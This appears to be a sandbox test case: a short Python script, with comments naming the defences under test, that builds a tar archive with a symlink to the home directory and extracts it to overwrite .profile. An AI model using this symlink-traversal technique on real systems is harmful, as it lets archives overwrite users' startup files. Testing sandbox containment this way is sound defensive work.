# title: unpacks an archive with a link and a file behind it
# harm: changes ${OP_HOME}/.profile
# B: Landlock grants no writing below the home
# C: the home is not mounted
import io, tarfile
with tarfile.open('evil.tar', 'w') as t:
    link = tarfile.TarInfo('out'); link.type = tarfile.SYMTYPE; link.linkname = OP_HOME; t.addfile(link)
    entry = tarfile.TarInfo('out/.profile'); entry.size = 4; t.addfile(entry, io.BytesIO(b'evil'))
tarfile.open('evil.tar').extractall()
